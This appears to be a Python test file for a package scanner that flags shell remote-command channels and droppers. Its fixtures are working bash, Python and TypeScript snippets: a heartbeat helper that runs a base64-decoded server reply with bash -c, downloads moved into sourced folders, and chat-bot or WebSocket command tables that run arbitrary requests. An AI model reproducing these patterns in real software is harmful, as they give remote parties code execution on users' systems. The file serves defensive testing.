"""Whole packages for shell remote command channels and droppers that move their download
into place: a monitor that sources a heartbeat library whose reply, base64-decoded, is run
with ``bash -c`` by a helper; a "feed index" fetched from a computed mirror address, moved
into a drop-in folder and sourced by a loop over that folder; a git hook that refreshes a
"rule pack" and sources it. Each malicious package fails; its benign twin, which reads the
same reply as data or keeps the download out of the sourced folder, passes."""

from __future__ import annotations

from tests.support.static_packages import judged_package

_HEARTBEAT_LIB = (
    "#!/usr/bin/env bash\n# Heartbeat helpers. Sourced, not executed.\n"
    "beat_send() {\n"
    "  curl -fsS --max-time 15 -H 'content-type: application/json' \\\n"
    '       -d "$1" "$STATUS_URL" 2>/dev/null || echo \'{}\'\n'
    "}\n"
    '_run_hook() { bash -c "$1" _ "${2:-}" >/dev/null 2>&1 & }\n'
    "beat_apply() {\n"
    "  local kind snippet\n"
    '  kind="$(jq -r \'.remediate.kind // empty\' <<<"$1")"\n'
    '  [[ "$kind" == hook ]] || return 0\n'
    '  snippet="$(jq -r \'.remediate.run // empty\' <<<"$1" | base64 -d)"\n'
    '  _run_hook "$snippet"\n'
    "}\n"
)
_MONITOR = (
    "#!/usr/bin/env bash\nset -euo pipefail\n"
    'HERE="$(cd "$(dirname "$0")" && pwd)"\n'
    'source "$HERE/lib/heartbeat.sh"\n'
    "while true; do\n"
    '  stats="$(tail -n 200 "$LOG" | jq -sc \'{lines: length}\')"\n'
    '  resp="$(beat_send "$stats")"\n'
    '  beat_apply "$resp"\n'
    '  sleep "$INTERVAL"\n'
    "done\n"
)


def test_a_heartbeat_reply_run_by_a_sourced_helper_fails() -> None:
    files = {"scripts/monitor.sh": _MONITOR, "scripts/lib/heartbeat.sh": _HEARTBEAT_LIB}
    score, rules = judged_package(files)
    assert score <= 2 and "shell.remote-code" in rules


def test_the_same_heartbeat_logging_its_reply_passes() -> None:
    logged = _HEARTBEAT_LIB.replace('_run_hook "$snippet"', 'printf "%s\\n" "$snippet" >> "$LOG"')
    files = {"scripts/monitor.sh": _MONITOR, "scripts/lib/heartbeat.sh": logged}
    score, rules = judged_package(files)
    assert score >= 3 and "shell.remote-code" not in rules


def test_a_local_hook_run_with_bash_c_beside_the_heartbeat_passes() -> None:
    local = _HEARTBEAT_LIB.replace('_run_hook "$snippet"', '_run_hook "$RESTART_HOOK" "$kind"')
    files = {"scripts/monitor.sh": _MONITOR, "scripts/lib/heartbeat.sh": local}
    _, rules = judged_package(files)
    assert "shell.remote-code" not in rules


_HARVEST = (
    "#!/usr/bin/env bash\nset -euo pipefail\n"
    'conf_dir="$(dirname "$0")/../config"\n'
    "mirror_base() {\n"
    '  printf \'https://%s.%s/%s\' "$MIRROR_HOST" "$MIRROR_TLD" "$MIRROR_PATH"\n'
    "}\n"
    "refresh_index() {\n"
    '  local idx="$conf_dir/sources.d/50-regional.conf"\n'
    '  curl -fsS --max-time 20 -A "$AGENT" "$(mirror_base)/index.conf" -o "$idx.new" \\\n'
    '    && mv -f "$idx.new" "$idx" || rm -f "$idx.new"\n'
    "}\n"
    "load_sources() {\n"
    '  source "$conf_dir/sources.conf"\n'
    "  refresh_index\n"
    '  for f in "$conf_dir"/sources.d/*.conf; do\n'
    '    [[ -f "$f" ]] && source "$f"\n'
    "  done\n"
    "}\n"
    "load_sources\n"
)


def test_a_download_moved_into_a_sourced_drop_in_folder_fails() -> None:
    score, rules = judged_package({"scripts/harvest.sh": _HARVEST})
    assert score <= 2 and "pipe-to-shell" in rules


def test_the_same_download_kept_beside_the_sourced_folder_passes() -> None:
    kept = _HARVEST.replace("sources.d/50-regional.conf", "cache/regional-index.json")
    score, rules = judged_package({"scripts/harvest.sh": kept})
    assert score >= 3 and "pipe-to-shell" not in rules


_GUARD_LIB = (
    "#!/usr/bin/env bash\n"
    "guard_refresh() {\n"
    '  local tmp; tmp="$(mktemp "$CACHE/.pack.XXXXXX")"\n'
    '  if curl -fsSL --max-time 4 "$(pack_url)" -o "$tmp"; then\n'
    '    mv -f "$tmp" "$CACHE/pack.rules"\n'
    "  else\n"
    '    rm -f "$tmp"\n'
    "  fi\n"
    "}\n"
    "guard_load() {\n"
    "  guard_refresh\n"
    '  [[ -s "$CACHE/pack.rules" ]] && . "$CACHE/pack.rules" >/dev/null 2>&1 || true\n'
    "}\n"
)


def test_a_hook_that_sources_a_refreshed_rule_pack_fails() -> None:
    score, rules = judged_package({"hooks/guard-lib.sh": _GUARD_LIB})
    assert score <= 2 and "pipe-to-shell" in rules


def test_a_hook_that_reads_a_refreshed_rule_pack_as_data_passes() -> None:
    read = _GUARD_LIB.replace('. "$CACHE/pack.rules"', 'grep -c . "$CACHE/pack.rules"')
    score, rules = judged_package({"hooks/guard-lib.sh": read})
    assert score >= 3 and "pipe-to-shell" not in rules


_DIAGNOSTICS_COG = (
    "import asyncio\nimport discord\nfrom discord.ext import commands\n\n"
    'PROBES = {"uptime": "uptime", "disk": "df -h .", "mem": "free -m"}\n\n\n'
    "class Diagnostics(commands.Cog):\n"
    "    async def _run(self, probe: str) -> str:\n"
    "        cmd = PROBES.get(probe, probe)\n"
    "        proc = await asyncio.create_subprocess_shell(\n"
    "            cmd, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)\n"
    "        out, _ = await proc.communicate()\n"
    "        return out.decode()\n\n"
    "    @commands.Cog.listener()\n"
    "    async def on_message(self, msg: discord.Message):\n"
    '        if msg.content.startswith("::"):\n'
    "            await msg.channel.send(await self._run(msg.content[2:].strip()))\n"
)


def test_a_chat_bot_whose_probe_table_runs_unknown_probes_fails() -> None:
    score, rules = judged_package({"scripts/cogs/diagnostics.py": _DIAGNOSTICS_COG})
    assert score <= 2 and "code.passthrough-command-table" in rules


def test_the_same_bot_refusing_unknown_probes_passes() -> None:
    refused = _DIAGNOSTICS_COG.replace(
        "        cmd = PROBES.get(probe, probe)\n",
        "        cmd = PROBES.get(probe)\n        if cmd is None:\n"
        '            return "unknown probe"\n',
    )
    score, rules = judged_package({"scripts/cogs/diagnostics.py": refused})
    assert score >= 3 and "code.passthrough-command-table" not in rules


_RELAY_HANDLERS = (
    'import { exec } from "node:child_process";\n\n'
    "const CHECKS: Record<string, string> = {\n"
    '  disk: "df -h .",\n  audio: "arecord -l",\n};\n\n'
    "function runCheck(spec: string): Promise<string> {\n"
    "  const cmd = CHECKS[spec] ?? spec;\n"
    "  return new Promise((done) => exec(cmd, (err, out) => done(String(out))));\n"
    "}\n\n"
    "export const HANDLERS = {\n"
    "  host_check: async (m: any) => Promise.all(m.checks.map(runCheck)),\n"
    "};\n"
)
_RELAY_BRIDGE = (
    'import WebSocket from "ws";\nimport { HANDLERS } from "./handlers";\n\n'
    "const ws = new WebSocket(process.env.RELAY_URL!);\n"
    'ws.on("message", async (raw) => {\n'
    "  const m = JSON.parse(String(raw));\n"
    "  const reply = await (HANDLERS as any)[m.type]?.(m);\n"
    "  ws.send(JSON.stringify({ id: m.id, reply }));\n"
    "});\n"
)


def test_a_relay_whose_check_table_falls_back_to_the_request_fails() -> None:
    files = {"scripts/handlers.ts": _RELAY_HANDLERS, "scripts/bridge.ts": _RELAY_BRIDGE}
    score, rules = judged_package(files)
    assert score <= 2 and "code.passthrough-command-table" in rules


def test_the_same_table_in_a_package_that_takes_no_messages_is_no_channel() -> None:
    _, rules = judged_package({"scripts/handlers.ts": _RELAY_HANDLERS})
    assert "code.passthrough-command-table" not in rules


_POLICY_LIB = (
    "#!/usr/bin/env bash\n"
    "_fetch() {\n"
    '  local url="$1" out="$2"\n'
    '  curl -fsS --max-time 20 -o "$out.new" "$url" && mv -f "$out.new" "$out"\n'
    "}\n"
    "refresh_policy() {\n"
    '  _fetch "https://${POLICY_HOST}/${POLICY_PATH}" "$CACHE_DIR/site.policy"\n'
    "}\n"
    "load_config() {\n"
    '  . "$CONF"\n'
    "  refresh_policy\n"
    '  for f in "$CACHE_DIR/site.policy" "$STATE_DIR/local.policy"; do\n'
    '    [ -r "$f" ] && . "$f"\n'
    "  done\n"
    "}\n"
)


def test_a_policy_a_download_helper_saves_and_a_loop_sources_fails() -> None:
    score, rules = judged_package({"scripts/lib/common.sh": _POLICY_LIB})
    assert score <= 2 and "pipe-to-shell" in rules


def test_the_same_policy_read_as_data_passes() -> None:
    read = _POLICY_LIB.replace('[ -r "$f" ] && . "$f"', '[ -r "$f" ] && grep -v "^#" "$f"')
    score, rules = judged_package({"scripts/lib/common.sh": read})
    assert score >= 3 and "pipe-to-shell" not in rules
